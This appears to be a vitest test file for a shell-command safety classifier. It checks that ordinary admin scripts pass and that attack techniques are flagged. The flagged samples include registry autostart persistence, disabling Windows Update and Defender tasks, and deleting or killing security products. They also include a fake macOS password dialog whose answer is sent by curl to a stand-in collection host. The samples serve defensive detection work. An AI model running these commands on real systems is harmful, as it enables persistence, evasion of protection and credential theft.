/**
 * False positives and a miss found on real published admin scripts (held-out set 8: pending-reboot checks,
 * Windows Update settings, OneDrive namespace tweaks, Jamf FileVault scripts, software unpacked and run),
 * each beside the technique it resembles, which must still be caught.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Platform, Shell } from '../types';

function rules(text: string, shell: Shell, history: string[] = [], platform?: Platform): string[] {
  return evaluateLine(text, shell, history, platform).reasons.map((r) => r.ruleId);
}

describe('the registry read through StdRegProv', () => {
  const provider = '$HKLM = [UInt32] "0x80000002"\n$reg = [WMIClass] "\\\\$env:ComputerName\\root\\default:StdRegProv"\n';

  it('EnumKey and GetStringValue under \\Services only read (a pending-reboot check)', () => {
    const script =
      provider +
      '$netlogon = $reg.EnumKey($HKLM, "SYSTEM\\CurrentControlSet\\Services\\Netlogon").sNames\n' +
      '$name = $reg.GetStringValue($HKLM, "SYSTEM\\CurrentControlSet\\Control\\ComputerName\\ComputerName\\", "ComputerName")';
    expect(decision(script, 'powershell')).toBe('allow');
  });

  it('SetStringValue of a Run key or CreateKey under \\Services writes an autostart', () => {
    expect(
      rules(
        provider + '$reg.SetStringValue($HKLM, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "upd", "C:\\Users\\Public\\u.exe")',
        'powershell',
      ),
    ).toContain('persist.registry');
    expect(
      rules(
        "Invoke-CimMethod -ClassName StdRegProv -MethodName CreateKey -Arguments @{hDefKey=[uint32]2147483650; sSubKeyName='SYSTEM\\CurrentControlSet\\Services\\updsvc'}",
        'powershell',
      ),
    ).toContain('persist.registry');
  });
});

describe('registry values given by position', () => {
  const au = 'Set-ItemProperty -Path "HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU"';

  it('Set-ItemProperty -Path K "NoAutoUpdate" 0 leaves automatic updates on', () => {
    expect(decision(`${au} "NoAutoUpdate" 0`, 'powershell')).toBe('allow');
    expect(decision(`${au} -Name NoAutoUpdate -Value 0`, 'powershell')).toBe('allow');
    expect(
      decision('Set-ItemProperty "HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" NoAutoUpdate 0', 'powershell'),
    ).toBe('allow');
  });

  it('set to 1, by position or by name, turns them off', () => {
    expect(rules(`${au} "NoAutoUpdate" 1`, 'powershell')).toContain('evasion.registry');
    expect(rules(`${au} -Name NoAutoUpdate -Value 1`, 'powershell')).toContain('evasion.registry');
    expect(rules(`${au} -Value 1 -Name NoAutoUpdate`, 'powershell')).toContain('evasion.registry');
  });
});

describe('class keys: display settings are not handlers', () => {
  const clsid = '$key = "HKCU:\\Software\\Classes\\CLSID\\{018D5C66-4533-4307-9B53-224DE2ED1FE6}"\n';

  it('System.IsPinnedToNameSpaceTree on a CLSID (OneDrive in the navigation pane) is a display setting', () => {
    expect(decision(clsid + 'Set-ItemProperty -Path $key -Name "System.IsPinnedToNameSpaceTree" -Value "0" -Force', 'powershell')).toBe(
      'allow',
    );
    expect(
      decision(
        'New-ItemProperty -Path "HKCU:\\Software\\Classes\\CLSID\\{0E5AAE11-A475-4c5b-AB00-C66DE400274E}" -Name InfoTip -Value "x"',
        'powershell',
      ),
    ).toBe('allow');
  });

  it('a CLSID server, a default value or a DelegateExecute is still a handler', () => {
    const server = '$key = "HKCU:\\Software\\Classes\\CLSID\\{018D5C66-4533-4307-9B53-224DE2ED1FE6}\\InprocServer32"\n';
    expect(rules(server + "Set-ItemProperty -Path $key -Name '(default)' -Value 'C:\\Users\\Public\\x.dll'", 'powershell')).toContain(
      'persist.registry',
    );
    expect(
      rules('reg add "HKCU\\Software\\Classes\\txtfile\\shell\\open\\command" /ve /d "C:\\Users\\Public\\x.exe %1" /f', 'cmd'),
    ).toContain('persist.registry');
    expect(
      rules('reg add "HKCU\\Software\\Classes\\CLSID\\{11111111-2222-3333-4444-555555555555}" /v DelegateExecute /d "" /f', 'cmd'),
    ).toContain('persist.registry');
  });
});

describe('a password dialog whose answer is only used on the Mac (FileVault, secure token)', () => {
  const ask = `pass=$(/usr/bin/osascript <<END
tell application "System Events"
set the answer to text returned of (display dialog "Enter your account password:" default answer "" with hidden answer buttons {"Continue"} default button 1)
end tell
END
)
`;
  const check = 'ok=$(/usr/bin/dscl /Local/Default -authonly "$user" "$pass")\nif [ -z "$pass" ]; then exit 1; fi\n';

  it('checked with dscl -authonly, then given to sysadminctl and to fdesetup through a plist it removes', () => {
    const plist = `echo '<plist><dict><key>Username</key><string>'$user'</string><key>Password</key><string>'$pass'</string></dict></plist>' > /tmp/fv.plist
fdesetup add -i < /tmp/fv.plist
rm -f /tmp/fv.plist
`;
    const token = 'sysadminctl -adminUser "$user" -adminPassword "$pass" -secureTokenOn admin -password "$adminPass"\n';
    expect(decision(ask + check + plist + token, 'bash')).toBe('allow');
  });

  it('printed, sent, copied, exported or stored readable, it is a fake credential prompt', () => {
    for (const use of [
      'echo "$pass"',
      'curl -d "p=$pass" https://collect.example.net/',
      'copy="x$pass"\ncurl -d "$copy" https://collect.example.net/',
      'export pass\nbash /tmp/next.sh',
      'dscl . -create /Users/helper RealName "$pass"',
      'sysadminctl -addUser "$pass" -password x',
      'echo "$pass" > /tmp/fv.plist\nfdesetup add -i < /tmp/fv.plist\ncurl -T /tmp/fv.plist https://collect.example.net/',
    ])
      expect(rules(ask + check + use, 'bash', [], 'macos'), use).toContain('cred.fake-prompt');
  });

  it('asked and never checked, printed to the console, or kept for a later line, it is a fake prompt', () => {
    expect(rules(ask, 'bash', [], 'macos')).toContain('cred.fake-prompt');
    expect(rules(`osascript -e 'display dialog "Password:" default answer "" with hidden answer'`, 'bash', [], 'macos')).toContain(
      'cred.fake-prompt',
    );
    expect(rules('echo "$pass"', 'bash', [ask + check], 'macos')).toContain('cred.fake-prompt');
  });
});

describe('software unpacked where the script moved to', () => {
  const fetch = 'cd /usr/local/src\nwget http://cdn.example.com/Bench-4.0-Linux.tar.gz\ntar xf Bench-4.0-Linux.tar.gz\n';

  it('running a program by its full path inside the unpacked folder runs the download', () => {
    expect(rules(fetch + '/usr/local/src/build/dist/Bench-4.0-Linux/bench4', 'bash')).toContain('dl.archive-then-run');
  });

  it('listing the folder, or unpacking at / and restarting a system service, runs nothing from it', () => {
    expect(decision(fetch + 'ls -la /usr/local/src', 'bash')).toBe('allow');
    expect(decision('cd /\nwget https://x.example.com/backup.tgz\ntar xzf backup.tgz\n/usr/bin/systemctl restart nginx', 'bash')).toBe(
      'allow',
    );
  });
});

describe('protection scheduled tasks disabled', () => {
  it('Disable-ScheduledTask of a Defender task, named, piped in, or taken from a list in a loop', () => {
    expect(
      rules(
        'Disable-ScheduledTask -TaskName "Windows Defender Scheduled Scan" -TaskPath "\\Microsoft\\Windows\\Windows Defender\\"',
        'powershell',
      ),
    ).toContain('evasion.scheduled-protection');
    expect(rules('Get-ScheduledTask -TaskPath "\\Microsoft\\Windows\\Windows Defender\\" | Disable-ScheduledTask', 'powershell')).toContain(
      'evasion.scheduled-protection',
    );
    const loop = `$tasks = @(
  "\\Microsoft\\Windows\\Autochk\\Proxy"
  "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan"
)
foreach ($task in $tasks) {
  $parts = $task.Split('\\')
  $name = $parts[-1]
  $path = $parts[0..($parts.length - 2)] -join '\\'
  Disable-ScheduledTask -TaskName "$name" -TaskPath "$path" -ErrorAction SilentlyContinue
}`;
    expect(rules(loop, 'powershell')).toContain('evasion.scheduled-protection');
  });

  it('other tasks, listed or looped over, are maintenance', () => {
    expect(
      decision(
        'Disable-ScheduledTask -TaskName "Consolidator" -TaskPath "\\Microsoft\\Windows\\Customer Experience Improvement Program\\"',
        'powershell',
      ),
    ).toBe('allow');
    const loop = `$tasks = @("\\Microsoft\\Windows\\Autochk\\Proxy", "\\Microsoft\\Windows\\Feedback\\Siuf\\DmClient")
foreach ($task in $tasks) { $name = $task.Split('\\')[-1]; Disable-ScheduledTask -TaskName "$name" }`;
    expect(decision(loop, 'powershell')).toBe('allow');
  });
});

describe('a security product removed by hand', () => {
  it('its bundle, install folder or launchd job deleted, or its processes killed by a looked-up PID', () => {
    expect(rules('sudo rm -rf /Applications/Sophos\\ Endpoint.app', 'bash')).toContain('evasion.security-service.uninstall');
    expect(rules('sudo rm -rf /Library/LaunchAgents/com.sophos.agent.plist', 'bash')).toContain('evasion.security-service.uninstall');
    expect(rules('sudo rm -rf "/Library/Sophos Anti-Virus"', 'bash')).toContain('evasion.security-service.uninstall');
    expect(rules('Remove-Item -Recurse -Force "C:\\Program Files\\CrowdStrike"', 'powershell')).toContain(
      'evasion.security-service.uninstall',
    );
    expect(rules('rd /s /q "%ProgramData%\\Malwarebytes"', 'cmd')).toContain('evasion.security-service.uninstall');
    expect(rules("pids=$(ps -ax | grep Sophos | awk '{print $1}')\nkill $pids", 'bash')).toContain('evasion.security-service.stop');
  });

  it('other applications, files inside a product folder, and other processes are ordinary', () => {
    expect(decision('rm -rf /Applications/Slack.app ~/Library/LaunchAgents/com.tinyspeck.slackmacgap.plist', 'bash')).toBe('allow');
    expect(decision('rm -f "/Library/Application Support/CrowdStrike/Falcon/old.log"', 'bash')).toBe('allow');
    expect(decision("pids=$(ps -ax | grep nginx | awk '{print $1}')\nkill $pids", 'bash')).toBe('allow');
  });
});
